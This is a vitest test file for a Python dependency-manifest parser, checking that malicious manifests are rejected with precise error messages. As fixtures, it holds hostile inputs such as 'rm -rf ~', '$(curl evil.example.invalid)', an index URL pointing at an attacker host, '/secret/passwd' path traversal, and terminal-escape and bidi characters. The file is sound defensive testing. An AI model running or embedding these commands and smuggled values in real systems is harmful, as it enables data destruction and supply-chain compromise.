import { describe, expect, test } from "vitest";

import { absolute } from "../../src/model/path.ts";
import { readGoal } from "../../src/project/goal.ts";
import { type Content, DEVICE, filesOf } from "../kit/files.ts";

/**
 * Manifests that want something else than to say what a project needs. Each is refused with file, line, column, reason and hint, and nothing that could be an option or a
 * command is left of it.
 */
type Case = readonly [files: Readonly<Record<string, Content>>, ...problems: readonly string[]];

const bytes = (...parts: readonly (string | number)[]): Uint8Array =>
  Uint8Array.from(
    parts.flatMap((part) => (typeof part === "number" ? [part] : [...new TextEncoder().encode(part)])),
  );
const pyproject = (...lines: readonly string[]): Readonly<Record<string, string>> => ({
  "pyproject.toml": ['[project]\nname = "p"', ...lines].join("\n"),
});
const HUGE = new Uint8Array(100 * 1024 * 1024).fill(97);
const REGULAR = "it has to be a regular file of at most 4 MiB that this user may read";
const NAME = "write a name with version specifiers, such as `flask>=3`";
const OPTIONS = "options are not read here; write a name with version specifiers, such as `flask>=3`";
const SOME = "a requirements file takes only some of pip's options, each with its value";
const UTF8 = "save the file as UTF-8";
const TOML = "mend the line: `key = value`, or `[table]` before those of a table";
const OUT = "take one of the includes out";
const EXPECTED = "expected a version specifier (PEP 440), `;` and a marker, or the end";

const KINDS: Readonly<Record<string, readonly Case[]>> = {
  "options smuggled as names": [
    [
      { "requirements.txt": "flask\n--target=/etc x\n" },
      "requirements.txt:2:1: `--target` is not an option of requirements files: `--target=/etc x` | " + SOME,
    ],
    [
      pyproject('dependencies = ["--index-url=https://evil.example.invalid/"]'),
      "pyproject.toml:3:18: `--index-url=https://evil.example.invalid/` is not a requirement: expected the name of a project | " +
        OPTIONS,
    ],
    [
      pyproject('dependencies = ["flask --upgrade"]'),
      `pyproject.toml:3:24: \`flask --upgrade\` is not a requirement: ${EXPECTED} | ${NAME}`,
    ],
    [
      { "pyproject.toml": '[tool.poetry.dependencies]\n"-rx" = "*"\n' },
      "pyproject.toml:2:10: `-rx` is not a name | write a name of letters, digits, `-`, `_` and `.`",
    ],
    [
      { Pipfile: '[packages]\n"--pre" = "*"\n' },
      "Pipfile:2:12: `--pre` is not a name | write a name of letters, digits, `-`, `_` and `.`",
    ],
    [
      { "setup.cfg": "[metadata]\nname = p\n[options]\ninstall_requires =\n    -e .\n" },
      "setup.cfg:5:5: `-e .` is not a requirement: expected the name of a project | " + OPTIONS,
    ],
  ],
  "shell characters": [
    [
      { "requirements.txt": "flask; rm -rf ~\n" },
      "requirements.txt:1:8: `flask; rm` is not a requirement: expected a marker variable or a quoted text | " +
        NAME,
    ],
    [
      { "requirements.txt": "$(curl evil.example.invalid)\n" },
      "requirements.txt:1:1: `$(curl evil.example.invalid)` is not a requirement: expected the name of a project | " +
        NAME,
    ],
    [
      pyproject('dependencies = ["flask && reboot"]'),
      `pyproject.toml:3:24: \`flask && reboot\` is not a requirement: ${EXPECTED} | ${NAME}`,
    ],
    [
      {
        "pyproject.toml":
          '[tool.poetry.dependencies]\nflask = { git = "https://h.example.invalid/x.git", branch = "a b; ls" }\n',
      },
      "pyproject.toml:2:9: `git+https://h.example.invalid/x.git@a b; ls` is not an address | write a URL without blanks",
    ],
    [
      { "setup.py": "from setuptools import setup\nsetup(install_requires=['flask`id`'])\n" },
      `setup.py:2:31: \`flask\`id\`\` is not a requirement: ${EXPECTED} | ${NAME}`,
    ],
  ],
  "files out of the tree": [
    [
      { "requirements.txt": "-r /secret/passwd\n", "/secret/passwd": "root:x:0:0\ndaemon:x:1:1\n" },
      "requirements.txt:1:1: `/secret/passwd` is outside this project, and 2 statements in it cannot be understood | include only requirements files",
    ],
    [
      { "requirements.txt": "-c ../../secret/passwd\n", "/secret/passwd": "root:x:0:0\n" },
      "requirements.txt:1:1: `../../secret/passwd` is outside this project, and 1 statement in it cannot be understood | include only requirements files",
    ],
    [
      { "requirements.txt": "-r ../../../../../nothing\n" },
      "requirements.txt:1:1: `../../../../../nothing` does not exist | mend the path, or leave the line out",
    ],
    [
      { "requirements.txt": "-r https://evil.example.invalid/x.txt\n" },
      "requirements.txt:1:1: `https://evil.example.invalid/x.txt` is on the network, which is not asked for requirements | keep a copy in the project",
    ],
    [
      { "requirements.txt": "-r file://evil.example.invalid/x.txt\n" },
      "requirements.txt:1:1: `file://evil.example.invalid/x.txt` is not the address of a file of this machine | mend the path, or leave the line out",
    ],
    [
      {
        "pyproject.toml":
          '[project]\nname = "p"\ndependencies = ["a"]\n[tool.uv.sources]\na = { path = "../../gone" }\n',
      },
      "pyproject.toml:3:18: `../../gone` is not there | mend the path, or leave it out",
    ],
  ],
  "device files": [
    [{ "requirements.txt": DEVICE }, "requirements.txt:1:1: `requirements.txt` cannot be read | " + REGULAR],
    [{ "requirements.txt": "-r zero\n", zero: DEVICE }, "zero:1:1: `zero` cannot be read | " + REGULAR],
    [{ "pyproject.toml": DEVICE }, "pyproject.toml:1:1: `pyproject.toml` cannot be read | " + REGULAR],
    [
      { ...pyproject("dependencies = []"), "uv.lock": DEVICE },
      "uv.lock:1:1: `uv.lock` cannot be read | " + REGULAR,
    ],
    [{ Pipfile: DEVICE }, "Pipfile:1:1: `Pipfile` cannot be read | " + REGULAR],
  ],
  "lines without end": [
    [{ "requirements.txt": HUGE }, "requirements.txt:1:1: `requirements.txt` cannot be read | " + REGULAR],
    [
      { "requirements.txt": `flask\n${"a".repeat(4_000_000)}\n` },
      `requirements.txt:2:1: a line of 4000000 characters is too long: \`${"a".repeat(160)}…\` | write one requirement a line`,
    ],
    [{ "pyproject.toml": HUGE }, "pyproject.toml:1:1: `pyproject.toml` cannot be read | " + REGULAR],
    [
      pyproject(`dependencies = ["${"a".repeat(1_000_000)} b"]`),
      `pyproject.toml:3:1000019: \`${"a".repeat(160)}…\` is not a requirement: ${EXPECTED} | ${NAME}`,
    ],
    [
      { ...pyproject("dependencies = []"), "poetry.lock": HUGE },
      "poetry.lock:1:1: `poetry.lock` cannot be read | " + REGULAR,
    ],
    [
      { "pyproject.toml": `[tool.poetry.dependencies]\na = "${"1 ".repeat(500_000)}"\n` },
      "pyproject.toml:2:6: the version constraint is too long | write versions, such as `^1.2` or `>=1,<2`",
    ],
  ],
  "deep nesting": [
    [
      pyproject(`dependencies = ${"[".repeat(100_000)}`),
      "pyproject.toml:3:1016: it is not TOML: document contains excessively nested structures. aborting | " +
        TOML,
    ],
    [
      { "requirements.txt": `a; ${"(".repeat(30_000)}os_name == 'nt'\n` },
      `requirements.txt:1:205: \`a; ${"(".repeat(157)}…\` is not a requirement: the parentheses are nested deeper than 200 | ${NAME}`,
    ],
    [
      {
        "requirements.txt": "-r 0.txt\n",
        ...Object.fromEntries(Array.from({ length: 60 }, (_, at) => [`${at}.txt`, `-r ${at + 1}.txt\n`])),
      },
      "48.txt:1:1: `49.txt` is nested deeper than 50 files | include it nearer to the first file",
    ],
    [
      pyproject(
        "[dependency-groups]",
        'dev = [{include-group = "g0"}]',
        ...Array.from({ length: 200 }, (_, at) => `g${at} = [{include-group = "g${at + 1}"}]`),
        "g200 = []",
      ),
      "pyproject.toml:104:8: dependency groups are nested deeper than 100 | " + OUT,
    ],
    [
      { Pipfile: "[source]\n", "Pipfile.lock": `{"_meta": {}, "default": ${"[".repeat(100_000)}` },
      "Pipfile:1:1: `source` is not a list of tables | write it as a list of tables, `[[source]]`",
      "Pipfile.lock:1:1: it is not JSON | lock again with its own tool",
    ],
  ],
  "control characters": [
    [
      { "requirements.txt": "fla\u0000sk\u001b[31m\n" },
      `requirements.txt:1:4: \`flask[31m\` is not a requirement: ${EXPECTED} | ${NAME}`,
    ],
    [
      { "requirements.txt": "-r a\u0000b\n" },
      "requirements.txt:1:1: `ab` is not the address of a file of this machine | mend the path, or leave the line out",
    ],
    [
      pyproject('dependencies = ["\\u001b]0;evil\\u0007"]'),
      "pyproject.toml:3:18: `]0;evil` is not a requirement: expected the name of a project | " + NAME,
    ],
    [
      pyproject('dependencies = ["gnirts\\u202eetalf"]'),
      `pyproject.toml:3:24: \`gnirtsetalf\` is not a requirement: ${EXPECTED} | ${NAME}`,
    ],
    [
      { "pyproject.toml": '[project]\nname = "p\u0007"\n' },
      "pyproject.toml:2:10: it is not TOML: control characters are not allowed in strings | " + TOML,
    ],
    [
      { "pyproject.toml": '[tool.poetry.dependencies]\na = { path = "x\\u0000y" }\n' },
      "pyproject.toml:2:5: `xy` is not there | mend the path, or leave it out",
    ],
  ],
  "wrong encodings": [
    [
      { "requirements.txt": bytes("f\na", 0xff, "\n") },
      "requirements.txt:2:2: it holds bytes that are not `utf-8` | " + UTF8,
    ],
    [
      { "requirements.txt": "# coding: utf-9\nflask\n" },
      "requirements.txt:1:1: the encoding `utf-9` is not known | " + UTF8,
    ],
    [
      { "requirements.txt": bytes(0xff, 0xfe, 0x00, 0xd8) },
      "requirements.txt:1:1: it holds bytes that are not `utf-16le` | " + UTF8,
    ],
    [
      { "pyproject.toml": bytes('[project]\nname = "', 0xe9, '"\n') },
      "pyproject.toml:2:9: it holds bytes that are not `utf-8` | " + UTF8,
    ],
    [
      { ...pyproject("dependencies = []"), "uv.lock": bytes("version = 1\n", 0xc3, 0x28) },
      "uv.lock:2:1: it holds bytes that are not `utf-8` | " + UTF8,
    ],
    [
      { "setup.cfg": bytes("[metadata]\nname = ", 0x80) },
      "setup.cfg:2:8: it holds bytes that are not `utf-8` | " + UTF8,
    ],
  ],
  "locks that are none": [
    [
      { ...pyproject("dependencies = []"), "uv.lock": "version = 2\n" },
      "uv.lock:1:11: version `2` of this lock file is not known | lock again with its own tool",
    ],
    [
      { ...pyproject("dependencies = []"), "uv.lock": "version = 1\n<<<<<<< HEAD\n[[package]]\n" },
      "uv.lock:2:1: it is not TOML: illegal character in key | " + TOML,
    ],
    [
      { ...pyproject("dependencies = []"), "uv.lock": 'version = 1\n[[package]]\nname = "p"\nsource = 7\n' },
      "uv.lock:4:10: `package.0.source` is not as uv writes it: Invalid type: Expected Object but received 7 | lock again with its own tool",
    ],
    [
      { ...pyproject("dependencies = []"), "pdm.lock": '[metadata]\nlock_version = "9"\n' },
      "pdm.lock:2:17: version `9` of this lock file is not known | lock again with its own tool",
    ],
    [
      {
        "requirements.txt": "b\n",
        "pylock.toml":
          'lock-version = "1.0"\ncreated-by = "x"\n[[packages]]\nname = "--pre"\nversion = "1"\n[[packages]]\nname = "a"\nversion = "1; rm"\n[[packages]]\nname = "b"\nversion = "1"\n',
      },
      "pylock.toml:3:1: `-pre` is not a name | lock again with its own tool",
      "pylock.toml:6:1: `a` has no version that PEP 440 knows: `1; rm` | lock again with its own tool",
    ],
    [
      {
        "requirements.txt": "b\n",
        "pylock.toml":
          'lock-version = "1.0"\ncreated-by = "x"\n[[packages]]\nname = "b"\nversion = "1"\n[[packages]]\nname = "a"\nversion = "1"\nmarker = "os_name"\n',
      },
      "pylock.toml:6:1: `os_name` is not a marker: expected an operator: `==`, `!=`, `<`, `<=`, `>`, `>=`, `~=`, `===`, `in` or `not in` | lock again with its own tool",
    ],
  ],
};

describe.each(Object.entries(KINDS))("%s", (_, cases) => {
  test.each(cases.map((one) => ({ name: one[1]?.slice(0, 60), one })))(
    "$name",
    ({ one: [files, ...problems] }) => {
      const goal = readGoal(
        { path: absolute("/w/p"), env: {} },
        filesOf(
          Object.fromEntries(
            Object.entries(files).map(([name, content]) => [
              name.startsWith("/") ? name : `/w/p/${name}`,
              content,
            ]),
          ),
        ),
      );
      const told = goal.problems.map(
        ({ file, line, column, message, hint = "" }) =>
          `${file.replace("/w/p/", "")}:${line}:${column}: ${message} | ${hint}`,
      );
      expect(told).toEqual(problems);
      // What was understood beside it is a plain name with versions, whatever else the file tried.
      for (const { name, specifier, text } of [...goal.requirements, ...goal.constraints])
        expect(`${name}${specifier}${text}`).toMatch(/^[a-z0-9][\w.<>=!,~*-]*$/u);
      expect(goal.options).toEqual([]);
    },
  );
});
